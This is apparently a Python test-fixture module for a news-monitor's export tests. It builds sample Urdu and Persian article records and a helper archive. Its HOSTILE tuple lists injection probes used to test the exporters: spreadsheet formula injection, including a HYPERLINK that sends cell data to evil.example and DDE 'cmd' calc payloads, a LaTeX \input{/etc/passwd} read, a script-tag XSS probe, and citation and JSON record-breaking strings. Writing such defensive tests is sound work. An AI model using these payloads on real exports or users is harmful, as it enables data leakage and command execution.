"""Small archives for the export tests, filled through the store's own methods."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from hashlib import sha256
from pathlib import Path

from monitor.check import load
from monitor.demo import stage
from monitor.models import (
    ArticleRecord,
    Context,
    Entry,
    Grade,
    Match,
    Mention,
    NewEntry,
    Origin,
    Placement,
    PollRecord,
    Reading,
    Span,
    Stamp,
    Subscription,
    Verdict,
)
from monitor.setup import Setup
from monitor.store.store import Store

NOW = datetime(2026, 2, 2, 9, 0, tzinfo=UTC)
URDU = "کوئٹہ میں لاپتا افراد کے لواحقین کا دھرنا جاری"
PERSIAN = "سیستان و بلوچستان: سوخت‌بران در جادهٔ سراوان"
FEED = "https://one.example/feed"
# Text that wants to be more than text, for each of the formats.
HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " \u00a0\u200b\ufeff=1+1",
    "\u202e=1+1",
    "＝1+1",
    "−1+A1",
    "'=1+1",
    "a;=1+1",
    'a;"=1+1',
    "a; '+1",
    ";;=;-;@",
    'said "no", then\nleft',
    "line\u2028sep\u0085nel\x0b\x1b[31mred\x1dgs",
    "title\r\nER  - \r\nTY  - JOUR\r\nTI  - second",
    "TY  - JOUR",
    "} @book{stolen, title = {x}",
    "{{{ unbalanced \\} \\{ }",
    "\\input{/etc/passwd} $x^2$ 100% #1 a_b ~ & \\",
    "@comment{x}",
    "<script>alert(1)</script> &lt;b&gt;",
    '"}], "author": [{"literal": "x',
    "right \u202eto\u2066 left \u2069\u200f",
    "نامہ‌نگار \u200f(الف)",
    "👩\u200d🚒 فائر",
)


def record(**changes: object) -> ArticleRecord:
    """Return a complete record."""
    full = ArticleRecord(
        id=12,
        url="https://www.dawn.example/news/12?a=1&b=2",
        canonical_url="https://www.dawn.example/news/12?a=1&b=2",
        final_url="https://www.dawn.example/news/12/title",
        guid="guid-12",
        feed="Dawn feed",
        outlet="dawn",
        title=URDU,
        author="Saleem Shahid",
        language="ur",
        published=Stamp("Mon, 02 Feb 2026 13:00:00 +0500", NOW - timedelta(hours=1), "+05:00"),
        first_seen=NOW,
        fetched_at=NOW + timedelta(minutes=2),
        origin=Origin.PAGE,
        word_count=240,
        matches=(
            Match(
                "missing",
                Grade.STRONG,
                (Span("title", 0, 5, "کوئٹہ", "کوئٹہ", "place.quetta"), Span("body", 7, 11, "term", "term")),
                (Context("body", 20, 24, "camp", "requires", "sentence"),),
                "why",
            ),
            Match("quetta", Grade.LIKELY, (Span("title", 0, 5, "کوئٹہ", "کوئٹہ", "place.quetta"),)),
        ),
        mentions=(),
        raw_sha256=sha256(b"raw").hexdigest(),
        text_sha256=sha256(b"text").hexdigest(),
        extractor="trafilatura 2.3.1",
        ruleset="f" * 64,
        story=7,
        outlet_name="Dawn",
        kind="private",
        country="PK",
        languages=("en", "ur"),
        day=date(2026, 2, 2),
        status="several",
        origins=2,
        report_of="Dawn",
        copy_of=None,
        entities=("place.quetta", "org.hrcp"),
        places=("place.quetta",),
        place_countries=("PK",),
    )
    return replace(full, **changes)  # type: ignore[arg-type]  # the names are the record's


class Archive:
    """A store to put articles into."""

    def __init__(self, path: Path) -> None:
        self.store = Store(path)
        self.store.sync_feeds([Subscription(url=FEED, title="One")], lambda _: "", NOW)

    def add(
        self,
        title: str = "A report",
        *rules: str,
        at: datetime = NOW,
        text: str = "One two three.",
        entity: str = "place.pk.d.quetta",
        story: int | None = None,
        how: str = "first",
        read: bool = True,
        author: str = "",
        published: Stamp | None = None,
        language: str = "en",
    ) -> int:
        """Store one article as a poll and a reading leave it; return its number."""
        (feed,) = self.store.feeds()
        number = self.store.counts()["articles"] + 1
        url = f"https://one.example/{number}"
        entry = Entry(f"g{number}", url, title, published=published, author=author)
        new = NewEntry(entry, keys=(("guid", f"g{number}"),), identity=url)
        self.store.save_polls([PollRecord(feed, at, "changed", 200, entries=1, new=(new,))])
        if read:
            self.store.save_reading(
                number,
                reading(title, rules, text, entity, author, published, language),
                now=at + timedelta(minutes=1),
                ruleset="r1",
                final_url=url,
                window=timedelta(hours=72),
                place=lambda *_: Placement(story, how),
                route=lambda _: [],
            )
        return number


def reading(
    title: str,
    rules: tuple[str, ...],
    text: str,
    entity: str = "place.pk.d.quetta",
    author: str = "",
    published: Stamp | None = None,
    language: str = "en",
) -> Reading:
    span = Span("title", 0, len(title), title, title, entity)
    return Reading(
        title=title,
        text=text,
        language=language,
        verdict=Verdict.FULL,
        origin=Origin.PAGE,
        author=author,
        published=published,
        mentions=(Mention(entity, Grade.STRONG, span), Mention("org.bla", Grade.CHECK, span)),
        matches=tuple(Match(rule, Grade.STRONG, (span,)) for rule in rules),
        sketch=(),
        extractor="trafilatura 2.3.1",
        raw_sha256=sha256(url_bytes(title)).hexdigest(),
        text_sha256=sha256(text.encode()).hexdigest(),
    )


def url_bytes(title: str) -> bytes:
    return title.encode("utf-8", "replace")


def setup_in(folder: Path) -> Setup:
    """Write a configuration on the shipped region pack beside the archive in `folder`/data, and load it."""
    (folder / "config.yaml").write_text(
        f"region: {stage.region_pack()}\nrules:\n  - {{id: water, query: water}}\n  - {{id: fire, query: fire}}\n",
        encoding="utf-8",
    )
    (folder / "feeds.opml").write_text('<opml version="2.0"><head/><body/></opml>', encoding="utf-8")
    return load(folder / "config.yaml", {})
